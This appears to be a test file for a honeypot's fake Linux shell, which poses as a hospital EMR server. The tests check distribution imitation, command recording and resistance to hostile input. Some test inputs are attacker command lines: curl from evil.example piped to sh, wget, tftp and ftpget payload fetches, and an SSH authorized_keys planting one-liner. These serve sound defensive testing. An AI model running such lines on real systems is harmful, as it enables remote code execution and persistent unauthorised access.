import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { createRng } from '@mamori/decoys';
import { createIdentity, type SensorIdentity } from '../core/identity.ts';
import type { InteractionFields, SensorSession } from '../core/persona.ts';
import {
  attachShell,
  createFakeFs,
  createLineEditor,
  createShell,
  globMatch,
  hostProfile,
  MAX_LINE,
  type Shell,
  splitLine,
  textMatcher,
} from './shell.ts';

// Seeds whose identities run different distributions (see identity.ts's list).
const UBUNTU_2204 = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa14';
const CENTOS = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa11';
const DEBIAN_12 = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa12';
const RHEL = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa13';
const DISTRO_SEEDS = [
  UBUNTU_2204,
  CENTOS,
  DEBIAN_12,
  RHEL,
  'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa10',
  'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1b',
];

type Rec = { kind: string } & InteractionFields;

function fakeSession(records: Rec[]): SensorSession {
  return {
    id: 's1',
    persona: 'ssh',
    srcIp: '203.0.113.50',
    srcPort: 40_000,
    dstPort: 22,
    startedAt: new Date(),
    loggedIn: true,
    record: (kind, fields) => records.push({ kind, ...fields }),
    reject: () => {},
  };
}

const identities = new Map<string, SensorIdentity>();
function identity(seed: string): SensorIdentity {
  let id = identities.get(seed);
  if (!id) {
    id = createIdentity(seed, '/nonexistent-state-dir');
    identities.set(seed, id);
  }
  return id;
}

function shellFor(seed = UBUNTU_2204, username = 'root', tty = true) {
  const records: Rec[] = [];
  const shell = createShell({
    identity: identity(seed),
    session: fakeSession(records),
    username,
    accepts: (u, p) => u === 'root' && p === 'toor',
    tty,
  });
  return { shell, records };
}

/** Runs a line and returns stdout and stderr joined (in order). */
function run(shell: Shell, line: string): string {
  return shell
    .run(line)
    .output.map((o) => o.text)
    .join('');
}

describe('fake host', () => {
  test('os-release, uname and the prompt match the identity, for every distribution', () => {
    for (const seed of DISTRO_SEEDS) {
      const id = identity(seed);
      const { shell } = shellFor(seed);
      const osRelease = run(shell, 'cat /etc/os-release');
      const family = id.linux.distro.startsWith('Ubuntu')
        ? 'ubuntu'
        : id.linux.distro.startsWith('Debian')
          ? 'debian'
          : id.linux.distro.startsWith('CentOS')
            ? 'centos'
            : 'rhel';
      assert.match(osRelease, new RegExp(`^ID="?${family}"?$`, 'm'), seed);
      if (family === 'ubuntu' || family === 'debian')
        assert.ok(osRelease.includes(`PRETTY_NAME="${id.linux.distro}"`), osRelease);
      assert.equal(run(shell, 'uname -r'), `${id.linux.kernel}\n`);
      const uname = run(shell, 'uname -a');
      assert.ok(uname.startsWith(`Linux ${id.hostname} ${id.linux.kernel} #`), uname);
      assert.ok(uname.endsWith('x86_64 x86_64 x86_64 GNU/Linux\n'), uname);
      assert.equal(run(shell, 'hostname'), `${id.hostname}\n`);
      const prompt = shell.prompt();
      assert.ok(
        family === 'ubuntu' || family === 'debian'
          ? prompt === `root@${id.hostname}:~# `
          : prompt === `[root@${id.hostname} ~]# `,
        prompt,
      );
    }
  });

  test('two seeds make two different machines (address, MAC, users, EMR name)', () => {
    const a = hostProfile(identity(UBUNTU_2204));
    const b = hostProfile(identity(CENTOS));
    assert.match(a.ip, /^10\.\d+\.\d+\.\d+$/);
    assert.notEqual(a.ip, b.ip);
    assert.notEqual(a.mac, b.mac);
    const { shell } = shellFor(UBUNTU_2204);
    assert.ok(run(shell, 'ifconfig').includes(`inet ${a.ip}  netmask 255.255.255.0`));
    assert.ok(run(shell, 'ip a').includes(`inet ${a.ip}/24`));
    assert.ok(run(shell, 'cat /etc/passwd').includes(`${a.admin}:x:1000:1000:`));
  });

  test('a hospital server: EMR backups, a config with DB credentials, patient exports', () => {
    const p = hostProfile(identity(UBUNTU_2204));
    const { shell } = shellFor();
    const backups = run(shell, `ls -l /srv/${p.emrSystem}/backup`);
    assert.equal(backups.match(/\.sql\.gz\n/g)?.length, 7, backups);
    assert.ok(run(shell, `cat /srv/${p.emrSystem}/conf/*.properties`).includes(`db.password=${p.dbPassword}`));
    assert.match(run(shell, `ls /srv/${p.emrSystem}/export`), /patients_\d{6}\.csv/);
  });

  test('recon one-liners bots send give consistent answers', () => {
    const p = hostProfile(identity(UBUNTU_2204));
    const { shell } = shellFor();
    assert.equal(run(shell, 'cat /proc/cpuinfo | grep name | wc -l'), `${p.cpus}\n`);
    assert.equal(run(shell, 'nproc'), `${p.cpus}\n`);
    assert.equal(
      run(shell, "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'"),
      `${p.cpuModel.split(' ').slice(0, 6).join(' ')}\n`,
    );
    assert.equal(run(shell, "free -m | grep Mem | awk '{print $2}'"), `${Math.floor(p.memKb / 1024)}\n`);
    assert.match(run(shell, 'ls -lh $(which ls)'), /^-rwxr-xr-x 1 root root +[\d.]+[KM] .+ \/usr\/bin\/ls\n$/);
    assert.equal(run(shell, 'whoami; id -u'), 'root\n0\n');
    assert.match(run(shell, 'w'), /root +pts\/0 +203\.0\.113\.50/);
    assert.match(run(shell, 'uptime'), /up \d+ days?, .* load average: [\d.]+, [\d.]+, [\d.]+/);
    assert.match(run(shell, 'ps aux'), /^USER +PID %CPU %MEM/);
    assert.match(run(shell, 'df -h'), /^Filesystem +Size +Used Avail Use% Mounted on/);
    assert.equal(run(shell, '/bin/busybox ECCHI'), 'ECCHI: applet not found\n');
    assert.equal(run(shell, 'crontab -l'), 'no crontab for root\n');
  });
});

describe('commands and recording', () => {
  test('one command record per line, with its parts; && || ; and | behave', () => {
    const { shell, records } = shellFor();
    assert.equal(run(shell, 'false && echo no || echo yes; echo a | wc -l'), 'yes\n1\n');
    assert.equal(records.length, 1);
    assert.equal(records[0]?.kind, 'command');
    assert.equal(records[0]?.command, 'false && echo no || echo yes; echo a | wc -l');
    assert.deepEqual(records[0]?.info?.parts, ['false', 'echo no', 'echo yes', 'echo a', 'wc -l']);
    assert.equal(run(shell, '   '), '');
    assert.equal(records.length, 1, 'blank lines are not commands');
  });

  test('unknown commands answer like bash', () => {
    const { shell } = shellFor();
    const r = shell.run('foo --bar');
    assert.deepEqual(r.output, [{ fd: 2, text: 'bash: foo: command not found\n' }]);
    assert.equal(r.code, 127);
    const exec = shellFor(UBUNTU_2204, 'root', false).shell.run('foo');
    assert.equal(exec.output[0]?.text, 'bash: line 1: foo: command not found\n', 'bash 5.1+ names the line under -c');
  });

  test('downloads are recorded with their URL and fail like a firewalled host', () => {
    const { shell, records } = shellFor();
    const out = run(
      shell,
      'wget http://198.51.100.7/x.sh; curl -s evil.example/y.sh | sh; tftp -g -r mips 198.51.100.8; ftpget 198.51.100.9 a a.sh; scp root@198.51.100.10:/tmp/b .',
    );
    assert.deepEqual(
      records.filter((r) => r.kind === 'download').map((r) => r.url),
      [
        'http://198.51.100.7/x.sh',
        'http://evil.example/y.sh',
        'tftp://198.51.100.8/mips',
        'ftp://198.51.100.9/a.sh',
        'scp://root@198.51.100.10/tmp/b',
      ],
    );
    assert.match(out, /Connecting to 198\.51\.100\.7:80\.\.\. failed: Connection refused\./);
    assert.match(out, /Transfer timed out\./);
    assert.equal(run(shell, 'ls /root'), '', 'nothing was saved');
    assert.equal(run(shell, 'curl http://nowhere.invalid/'), 'curl: (6) Could not resolve host: nowhere.invalid\n');
  });

  test('writes change this session only and respect permissions', () => {
    const { shell } = shellFor();
    assert.equal(run(shell, 'echo hello > /tmp/x; echo again >> /tmp/x; cat /tmp/x'), 'hello\nagain\n');
    assert.equal(run(shell, 'chmod +x /tmp/x; ls -l /tmp/x').slice(0, 10), '-rwxr-xr-x');
    assert.equal(run(shell, 'rm /tmp/x; cat /tmp/x'), 'cat: /tmp/x: No such file or directory\n');
    run(shell, 'echo kept > /tmp/y');
    assert.equal(
      run(shellFor().shell, 'cat /tmp/y'),
      'cat: /tmp/y: No such file or directory\n',
      'a new session starts clean',
    );
    const user = shellFor(UBUNTU_2204, 'admin').shell;
    assert.equal(run(user, 'echo x > /etc/passwd'), 'bash: /etc/passwd: Permission denied\n');
    assert.equal(run(user, 'cat /etc/shadow'), 'cat: /etc/shadow: Permission denied\n');
    assert.match(run(user, 'ls /root'), /Permission denied/);
  });

  test('the usual key-planting line works in memory', () => {
    const { shell } = shellFor();
    const out = run(
      shell,
      'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3Nza attacker" >> .ssh/authorized_keys && chmod -R go= ~/.ssh && cat .ssh/authorized_keys',
    );
    assert.equal(out, 'ssh-rsa AAAAB3Nza attacker\n');
    assert.equal(run(shell, 'pwd'), '/root\n');
  });

  test('cd, ls -la, history, export and variables', () => {
    const { shell } = shellFor();
    assert.equal(run(shell, 'cd /etc; pwd'), '/etc\n');
    assert.equal(shell.prompt(), `root@${identity(UBUNTU_2204).hostname}:/etc# `);
    assert.match(run(shell, 'ls -la /root'), /^total \d+\ndrwx------ +\d+ root root +4096 .+ \.\n/);
    assert.equal(run(shell, 'cd /nonexistent'), 'bash: cd: /nonexistent: No such file or directory\n');
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax under test, not a template
    assert.equal(run(shell, 'export A=42; echo $A ${A} "$A" \'$A\' $((A*2))'), '42 42 42 $A 84\n');
    assert.match(run(shell, 'history'), / {4}1 {2}cd \/etc; pwd\n/);
    assert.equal(run(shell, 'echo -e "\\x41\\tB"'), 'A\tB\n');
    assert.equal(run(shell, 'echo Y2F0IC9ldGMvaG9zdG5hbWUK | base64 -d | bash'), `${identity(UBUNTU_2204).hostname}\n`);
  });

  test('su asks for a password (recorded as a login), sudo -i and exit stack', () => {
    const { shell, records } = shellFor(UBUNTU_2204, 'admin');
    assert.equal(run(shell, 'su'), 'Password: ');
    assert.equal(shell.secret, true);
    assert.equal(shell.prompt(), '');
    assert.match(run(shell, 'wrong'), /su: Authentication failure/);
    run(shell, 'su -');
    run(shell, 'toor');
    assert.deepEqual(
      records.filter((r) => r.kind === 'login').map((r) => [r.username, r.password, r.success]),
      [
        ['root', 'wrong', false],
        ['root', 'toor', true],
      ],
    );
    assert.equal(run(shell, 'whoami; pwd'), 'root\n/root\n');
    const r = shell.run('exit');
    assert.equal(r.exit, false, 'exit leaves su, not the login');
    assert.equal(run(shell, 'whoami'), 'admin\n');
    run(shell, 'sudo -i');
    assert.equal(run(shell, 'id -u'), '0\n');
    shell.run('exit');
    assert.equal(run(shell, 'sudo id -u; id -u'), '0\n1002\n');
    assert.equal(shell.run('exit').exit, true);
  });

  test('long and hostile input stays bounded', () => {
    const { shell, records } = shellFor();
    const out = run(shell, `echo ${'a'.repeat(MAX_LINE * 3)}`);
    assert.ok(out.length <= MAX_LINE, String(out.length));
    assert.equal(records[0]?.info?.truncatedFrom, MAX_LINE * 3 + 5);
    // Catastrophic-backtracking patterns are matched literally, so this returns at once.
    run(shell, `echo ${'a'.repeat(3000)}b > /tmp/a`);
    assert.equal(run(shell, "grep -E '(a+)+$' /tmp/a; echo $?"), '1\n');
    assert.deepEqual(
      run(shell, `ls /tmp/${'*a'.repeat(40)}c`),
      `ls: cannot access '/tmp/${'*a'.repeat(40)}c': No such file or directory\n`,
    );
    // Deep substitution stops at the nesting limit instead of recursing forever.
    assert.doesNotThrow(() => run(shell, '$(echo $(echo $(echo $(echo $(echo $(echo $(echo id)))))))'));
    // A script that runs itself stops at the limit too.
    run(shell, 'echo "sh /tmp/loop.sh" > /tmp/loop.sh');
    assert.equal(shell.run('sh /tmp/loop.sh').exit, false);
    // The filesystem has a budget.
    const f = (i: number) => `/tmp/f${i}`;
    let last = '';
    for (let i = 0; i < 30; i++) {
      last = run(shell, `echo ${'x'.repeat(3000)} > ${f(i)}; cat ${Array(15).fill(f(i)).join(' ')} > /tmp/g${i}`);
    }
    assert.equal(last, 'bash: /tmp/g29: No space left on device\n');
  });

  test('files the attacker wrote: ELF for another CPU fails, scripts run in the fake shell', () => {
    const { shell, records } = shellFor();
    run(
      shell,
      'echo -ne "\\x7fELF\\x01\\x01\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x02\\x00\\x28\\x00" > /tmp/arm; chmod 755 /tmp/arm',
    );
    assert.equal(run(shell, '/tmp/arm'), 'bash: /tmp/arm: cannot execute binary file: Exec format error\n');
    run(shell, 'echo "wget http://198.51.100.20/stage2" > /tmp/s.sh; chmod +x /tmp/s.sh');
    run(shell, '/tmp/s.sh');
    assert.ok(records.some((r) => r.kind === 'download' && r.url === 'http://198.51.100.20/stage2'));
    assert.equal(run(shell, './nothere'), 'bash: ./nothere: No such file or directory\n');
  });
});

describe('robustness', () => {
  test('random lines of shell syntax and random keystrokes never throw', () => {
    const rng = createRng('shell-fuzz');
    const tokens = [
      'ls',
      'cd',
      'cat',
      'echo',
      'grep',
      'awk',
      'sh',
      '-c',
      'sudo',
      'su',
      'wget',
      'curl',
      'tftp',
      'scp',
      '|',
      ';',
      '&&',
      '||',
      '&',
      '>',
      '>>',
      '<',
      '2>&1',
      '"',
      "'",
      '`',
      '$(',
      ')',
      '$((',
      '))',
      '$',
      '${',
      '}',
      '*',
      '?',
      '~',
      '/',
      '..',
      'x',
      '-la',
      '-n',
      '1',
      'exit',
      'busybox',
      'base64',
      '-d',
      'chmod',
      '+x',
      'rm',
      '-rf',
      'mkdir',
      '-p',
      'mv',
      'printf',
      '%s',
      '\\',
      '\n',
      '#',
      'export',
      'A=1',
      '$A',
      '/etc/passwd',
      '/tmp/a',
      'head',
      'wc',
      'sort',
      'cut',
      '-d:',
      'ps',
      'aux',
      'ip',
      'free',
      '{print $1}',
      'NR==1',
      'nohup',
      'which',
      '\x00',
      '\x1b',
      '日本',
    ];
    for (let s = 0; s < 40; s++) {
      const { shell } = shellFor(rng.pick(DISTRO_SEEDS), rng.pick(['root', 'admin']), rng.chance(0.5));
      for (let l = 0; l < 25; l++) {
        const line = Array.from({ length: rng.int(1, 25) }, () => rng.pick(tokens)).join(rng.pick([' ', '']));
        assert.doesNotThrow(() => shell.run(line), line);
      }
      const term = attachShell({ shell, tty: true, write: () => {}, end: () => {} });
      assert.doesNotThrow(() => term.feed(Buffer.from(rng.bytes(2000)).toString('latin1')));
    }
  });
});

describe('parsing helpers', () => {
  test('splitLine keeps quotes and substitutions together', () => {
    assert.deepEqual(
      splitLine(`echo "a;b" 'c|d' $(echo e; echo f) && x || y | z & w # comment; not`).map((s) => [s.text, s.op]),
      [
        [`echo "a;b" 'c|d' $(echo e; echo f)`, '&&'],
        ['x', '||'],
        ['y', '|'],
        ['z', '&'],
        ['w', ';'],
      ],
    );
    assert.deepEqual(
      splitLine('ls >/dev/null 2>&1 &>x; a').map((s) => s.text),
      ['ls >/dev/null 2>&1 &>x', 'a'],
    );
  });

  test('globMatch and textMatcher', () => {
    assert.ok(globMatch('*release', 'os-release'));
    assert.ok(globMatch('a?c*', 'abcdef'));
    assert.ok(!globMatch('*.sh', 'x.shx'));
    const m = textMatcher('^model.*name', {});
    assert.ok(m('model name\t: Intel'));
    assert.ok(!m('the model name'));
    assert.ok(textMatcher('Mem|Swap', { extended: true })('Swap: 0'));
    assert.ok(textMatcher('NAME', { ignoreCase: true })('pretty_name'));
    assert.ok(textMatcher('bash$', {})('root:/bin/bash'));
  });
});

describe('terminal', () => {
  test('line editing: echo, backspace, ^C, ^U, arrow keys, CR LF and CR NUL', () => {
    const lines: string[] = [];
    let echoed = '';
    const ed = createLineEditor({ echo: true, write: (t) => (echoed += t), onLine: (l) => lines.push(l) });
    ed.feed('lx\x7fs -la\r\n');
    ed.feed('junk\x03');
    ed.feed('abc\x15pwd\r\0');
    ed.feed('\x1b[Aid\x1bOB\n');
    assert.deepEqual(lines, ['ls -la', 'pwd', 'id']);
    assert.ok(echoed.startsWith('lx\b \bs -la\r\n'), JSON.stringify(echoed));
    assert.ok(echoed.includes('^C\r\n'));
  });

  test('attachShell prints the prompt, runs lines with CRLF output, hides the su password and ends on exit', () => {
    const records: Rec[] = [];
    const shell = createShell({
      identity: identity(UBUNTU_2204),
      session: fakeSession(records),
      username: 'admin',
      accepts: () => true,
      tty: true,
      fs: createFakeFs(identity(UBUNTU_2204), 'admin'),
    });
    let out = '';
    let ended: number | undefined;
    const term = attachShell({ shell, tty: true, write: (t) => (out += t), end: (code) => (ended = code) });
    term.feed('echo hi\r');
    term.feed('su -\rsecret\r');
    term.feed('exit\rexit\r');
    const host = identity(UBUNTU_2204).hostname;
    assert.ok(
      out.startsWith(`admin@${host}:~$ echo hi\r\nhi\r\nadmin@${host}:~$ su -\r\nPassword: \r\n`),
      JSON.stringify(out),
    );
    assert.ok(!out.includes('secret'), 'the password is not echoed');
    assert.ok(out.includes(`root@${host}:~# `));
    assert.equal(ended, 0);
  });
});
